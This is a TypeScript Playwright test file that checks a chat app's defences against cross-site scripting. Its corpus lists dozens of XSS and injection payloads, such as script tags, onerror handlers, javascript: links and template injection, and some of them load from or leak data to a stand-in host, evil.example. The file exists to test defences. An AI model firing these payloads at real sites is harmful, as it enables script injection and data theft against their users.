// Text from users and agents stays text: it runs no script and sends no request to another site.
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser, logIn, newVisitor, startChat, type Visitor } from './support/browser.ts';
import { startParley, type Parley } from './support/parley-process.ts';

/** Attempts to run a script or to load a URL, as part of a message, a name or an answer. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">link</a>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<form action="https://evil.example"><input name=x></form>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<video><source onerror=alert(1)></video>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](vbscript:msgbox(1))',
  '[a](https://ok.example "onmouseover=alert(1)")',
  '![a](javascript:alert(1))',
  '![secret](https://evil.example/?q=secret)',
  '![x](https://evil.example/x.png"onerror="alert(1))',
  '<javascript:alert(1)>',
  '[ref]: javascript:alert(1)\n\n[ref]',
  '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '\u202Egpj.exe <b onmouseover=alert(1)>x</b>',
  '</textarea><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
];

describe('untrusted text', () => {
  let parley: Parley;
  let browser: Browser;
  let visitor: Visitor;
  let page: Page;
  let foreign: string[];

  beforeAll(async () => {
    [parley, browser] = await Promise.all([startParley(), launchBrowser()]);
    visitor = await newVisitor(browser, parley.url);
    ({ page } = visitor);
    foreign = [];
    visitor.context.on('request', (request) => {
      const { origin, protocol } = new URL(request.url());
      if (origin !== parley.url && protocol.startsWith('http')) foreign.push(request.url());
    });
    await logIn(page);
  });
  afterAll(async () => {
    await browser.close();
    await parley[Symbol.asyncDispose]();
  });

  const expectHarmless = async (): Promise<void> => {
    expect(visitor.problems).toEqual([]);
    expect(foreign).toEqual([]);
    const found = await page.evaluate(() => ({
      elements: [
        ...document.querySelectorAll('script, iframe, object, embed, base, form[action], link, style, meta'),
      ]
        .filter((element) => element.closest('#root') !== null)
        .map((element) => element.outerHTML.slice(0, 100)),
      handlers: [...document.querySelectorAll('#root *')]
        .filter((element) => element.getAttributeNames().some((name) => name.startsWith('on')))
        .map((element) => element.outerHTML.slice(0, 100)),
      links: [...document.querySelectorAll('#root a')]
        .map((link) => link.getAttribute('href') ?? '')
        .filter((href) => !/^(https?:|mailto:|\/|#main$)/.test(href)),
      pictures: [...document.querySelectorAll('#root img')]
        .map((image) => image.getAttribute('src') ?? '')
        .filter((src) => !src.startsWith('/') || src.startsWith('//')),
    }));
    expect(found).toEqual({ elements: [], handlers: [], links: [], pictures: [] });
  };

  test('text in answers and messages runs no script and loads nothing from another site', async () => {
    const composer = page.getByRole('textbox', { name: /^Write/ });
    await startChat(page, 'Hello');
    await page.getByText('the ways in which I fail on purpose').waitFor();
    await page.getByRole('button', { name: 'Send' }).waitFor();
    for (const [index, attack] of CORPUS.entries()) {
      const answers = page.getByRole('article', { name: 'Demo' });
      await composer.fill(`echo ${attack}\n\nend of ${index}`);
      await page.keyboard.press('Enter');
      await answers.last().getByText(`end of ${index}`).waitFor();
      await page.getByRole('button', { name: 'Send' }).waitFor();
    }
    await expectHarmless();
    // The text is shown as written, not dropped.
    await page.getByRole('article', { name: 'You' }).getByText('{{constructor').waitFor();
    await page.reload();
    await page
      .getByRole('article', { name: 'Demo' })
      .last()
      .getByText(`end of ${CORPUS.length - 1}`)
      .waitFor();
    await expectHarmless();
  }, 240_000);

  test('a link in an answer opens a new tab without a referrer', async () => {
    await startChat(
      page,
      'echo [the docs](https://docs.example/a?b=c) and ![a picture](https://pictures.example/1.png)',
    );
    const link = page.getByRole('article').getByRole('link', { name: 'the docs' });
    await link.waitFor();
    expect(await link.getAttribute('href')).toBe('https://docs.example/a?b=c');
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    // An image is a link too: loading it would reveal the reader to its server.
    expect(
      await page.getByRole('article').getByRole('link', { name: 'a picture' }).getAttribute('href'),
    ).toBe('https://pictures.example/1.png');
    await expectHarmless();
  });

  test('names of chats and agents run no script and load nothing from another site', async () => {
    await page.goto('/admin/agents');
    await page.getByRole('list', { name: 'Agents' }).getByRole('link').first().click();
    const url = await page.getByLabel('Webhook URL').inputValue();
    const [first, ...more] = [
      '<img src=x onerror=alert(1)>',
      '"><svg onload=alert(1)>',
      "javascript:alert('1')",
    ] as const;
    for (const attack of [first, ...more]) {
      await page.goto('/admin/agents/new');
      await page.getByLabel('Name').fill(attack);
      await page.getByLabel('Description').fill(attack);
      await page.getByLabel('Webhook URL').fill(url);
      await page.getByRole('button', { name: 'Create agent' }).click();
      await page.getByRole('heading', { name: attack }).waitFor();
    }
    await expectHarmless();
    await startChat(page, '<script>alert(1)</script>', first);
    await page.getByRole('heading', { level: 1, name: '<script>alert(1)</script>' }).waitFor();
    await page.getByRole('article', { name: first, exact: true }).waitFor();
    await expectHarmless();
  });

  test('the Content-Security-Policy blocks an injected script', async () => {
    const stopped = await newVisitor(browser, parley.url);
    await stopped.page.goto('/login');
    await stopped.page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "it ran"';
      document.body.append(script);
    });
    await expect.poll(() => stopped.problems.join()).toContain('CSP: script-src');
    expect(await stopped.page.title()).not.toBe('it ran');
    await stopped.context.close();
  });
});
